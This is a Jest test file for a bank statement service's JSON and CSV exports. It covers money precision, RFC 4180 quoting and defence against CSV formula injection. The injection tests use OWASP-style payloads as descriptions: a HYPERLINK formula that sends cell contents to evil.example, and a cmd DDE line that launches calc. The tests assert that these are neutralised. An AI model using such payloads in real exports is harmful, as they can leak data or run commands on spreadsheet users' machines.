import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { StatementEntry } from '../../src/bank/statement/statement.content.js';
import { startTestGateway, type TestGateway } from '../support/gateway.js';
import type { GivenStatement } from '../support/given.js';
import { statementContent } from '../support/statement.js';

let gateway: TestGateway;
beforeAll(async () => {
  gateway = await startTestGateway();
});
afterAll(() => gateway.stop());

async function as(accept: string, { caller, path }: GivenStatement): Promise<{ text: string; body: object }> {
  const { status, text, body } = await gateway.as(caller).rest.get(path, { accept });
  expect(status).toBe(200);
  return { text, body };
}

function entry(changes: Partial<StatementEntry> = {}): StatementEntry {
  return {
    transactionId: 't-1',
    postedOn: '2026-05-02',
    description: 'Coffee',
    transactionType: 'CARD',
    direction: 'DEBIT',
    amount: '3.50',
    balance: '96.50',
    ...changes,
  };
}

const withEntries = (...entries: StatementEntry[]) => gateway.given.statement({ content: { entries } });

/** The fields of RFC 4180 lines, quoted and plain. */
function fieldsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (end === '' && plain === '' && quoted === undefined) break;
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

describe('a statement as JSON', () => {
  test('has the fees of the year and of overdrafts where they were recorded', async () => {
    const { fees } = statementContent('');
    const totals = { period: '30.00', yearToDate: '60.00' };
    const content = {
      fees: { ...fees, totalYearToDate: '72.00' },
      overdraft: { fees: totals, returnedItemFees: { ...totals, period: '0.00' } },
    };
    const { text } = await as('application/json', await gateway.given.statement({ content }));
    expect(text).toContain('"total":12.00,"totalYearToDate":72.00}');
    expect(text).toContain(
      '"overdraft":{"fees":{"period":30.00,"yearToDate":60.00},"returnedItemFees":{"period":0.00,"yearToDate":60.00}}',
    );
  });

  test('is what is stored, with money as numbers that keep every digit', async () => {
    const given = await gateway.given.statement({
      content: { openingBalance: '9007199254740993.10', closingBalance: '-0.50' },
    });
    const { text, body } = await as('application/json', given);
    const stored = statementContent(given.statement);
    expect(Object.keys(body)).toEqual(Object.keys(stored));
    expect(body).toEqual({
      ...stored,
      openingBalance: expect.any(Number),
      closingBalance: -0.5,
      credits: {
        count: 1,
        amount: 1250,
      },
      debits: {
        count: 1,
        amount: 12,
      },
      fees: {
        items: [
          {
            description: 'Maintenance',
            count: 1,
            amount: 12,
          },
        ],
        total: 12,
      },
      interest: {
        paid: 0,
        paidYearToDate: 1.1,
        averageDailyBalance: 700.1,
        annualPercentageYieldEarned: null,
      },
      entries: [
        {
          ...stored.entries[0],
          amount: 1250,
          balance: 1350,
        },
        {
          ...stored.entries[1],
          amount: 12,
          balance: 1338,
        },
      ],
    });
    expect(text).toContain('"openingBalance":9007199254740993.10,"closingBalance":-0.50,');
    expect(text).toContain('"paid":0.00,"paidYearToDate":1.10,');
  });

  test('has the yield that was earned as a number, too', async () => {
    const interest = { ...statementContent('').interest, annualPercentageYieldEarned: '0.50' };
    const { text } = await as('application/json', await gateway.given.statement({ content: { interest } }));
    expect(text).toContain('"annualPercentageYieldEarned":0.50}');
  });

  test('without entries and without owners is one all the same', async () => {
    const { body } = await as(
      'application/json',
      await gateway.given.statement({ content: { entries: [], owners: [], addressLines: [] } }),
    );
    expect(body).toMatchObject({ entries: [], owners: [], addressLines: [] });
  });
});

test('a tax form as JSON has amounts as numbers and everything else as text', async () => {
  const given = await gateway.given.statement({ documentType: 'TAX_1099' });
  const { text, body } = await as('application/json', given);
  expect(body).toEqual({
    ...given.content,
    boxes: { 1: 1234.5, 4: 0.1, 7: 'Portugal', 15: 'ME', 16: '0042' },
  });
  expect(text).toContain('"boxes":{"1":1234.50,"4":0.10,"7":"Portugal","15":"ME","16":"0042"}');
});

describe('a statement as CSV', () => {
  const HEADER =
    'postedOn,transactionId,description,transactionType,direction,amount,balance,currency,memo,signedAmount\r\n';

  test('has a line for each entry below the names of the columns', async () => {
    const { text } = await as('text/csv', await gateway.given.statement());
    expect(text).toBe(
      HEADER +
        '2026-05-15,wages-1,"Wages, ""May"" — Zürich",DIRECTDEPOSIT,CREDIT,1250.00,1350.00,USD,,1250.00\r\n' +
        '2026-05-31,fee-1,Maintenance,FEE,DEBIT,12.00,1338.00,USD,,-12.00\r\n',
    );
  });

  test('without entries has the names of the columns', async () => {
    expect((await as('text/csv', await withEntries())).text).toBe(HEADER);
  });

  test.each(['a,b', 'a"b', '"', '""', 'a\nb', 'a\r\nb', '"a","b"', ' a ', '', 'é 月 😀', "it's", ';', 'a=b', '5-4'])(
    'gives the description %j back as it was',
    async description => {
      const { text } = await as('text/csv', await withEntries(entry({ description }), entry({ transactionId: 't-2' })));
      expect(fieldsOf(text).slice(1)).toEqual([
        ['2026-05-02', 't-1', description, 'CARD', 'DEBIT', '3.50', '96.50', 'USD', '', '-3.50'],
        ['2026-05-02', 't-2', 'Coffee', 'CARD', 'DEBIT', '3.50', '96.50', 'USD', '', '-3.50'],
      ]);
    },
  );

  // OWASP, 'CSV Injection'.
  test.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?x="&A1,"more")',
    '+1 555 010 0199',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd',
    '=',
    '-',
    '-1.',
    '-1e5',
    '+1,5',
    '＝1+1',
    '＠x',
  ])('gives the description %j as a text that no spreadsheet computes', async description => {
    const { text } = await as('text/csv', await withEntries(entry({ description })));
    expect(text).toContain(`,"'${description.replaceAll('"', '""')}",`);
    expect(fieldsOf(text)[1]?.[2]).toBe(`'${description}`);
  });

  test.each(['\t', '\r', '\n', 'semi;', 'a\t', 'a\n', 'a;" '])(
    'defuses a formula behind %j, where some readers begin a cell',
    async before => {
      const description = `${before}=1+1`;
      const { text } = await as('text/csv', await withEntries(entry({ description })));
      const [, end = ''] = /([" ]*)$/.exec(before) ?? [];
      const defused = `${before.slice(0, before.length - end.length)}'${end}=1+1`;
      expect(text).toContain(`,"${defused.replaceAll('"', '""')}",`);
      expect(fieldsOf(text)[1]?.[2]).toBe(defused);
    },
  );

  test('makes every column harmless that somebody may have written', async () => {
    const given = await withEntries(entry({ transactionId: '=A1', transactionType: '@x', description: '+x' }));
    expect((await as('text/csv', given)).text).toContain(
      `2026-05-02,"'=A1","'+x","'@x",DEBIT,3.50,96.50,USD,,-3.50\r\n`,
    );
  });

  test('leaves numbers alone, whatever sign they have', async () => {
    const given = await withEntries(entry({ balance: '-96.50', description: '-5', transactionId: '+12.25' }));
    expect((await as('text/csv', given)).text).toContain(`2026-05-02,+12.25,-5,CARD,DEBIT,3.50,-96.50,USD,,-3.50\r\n`);
  });
});
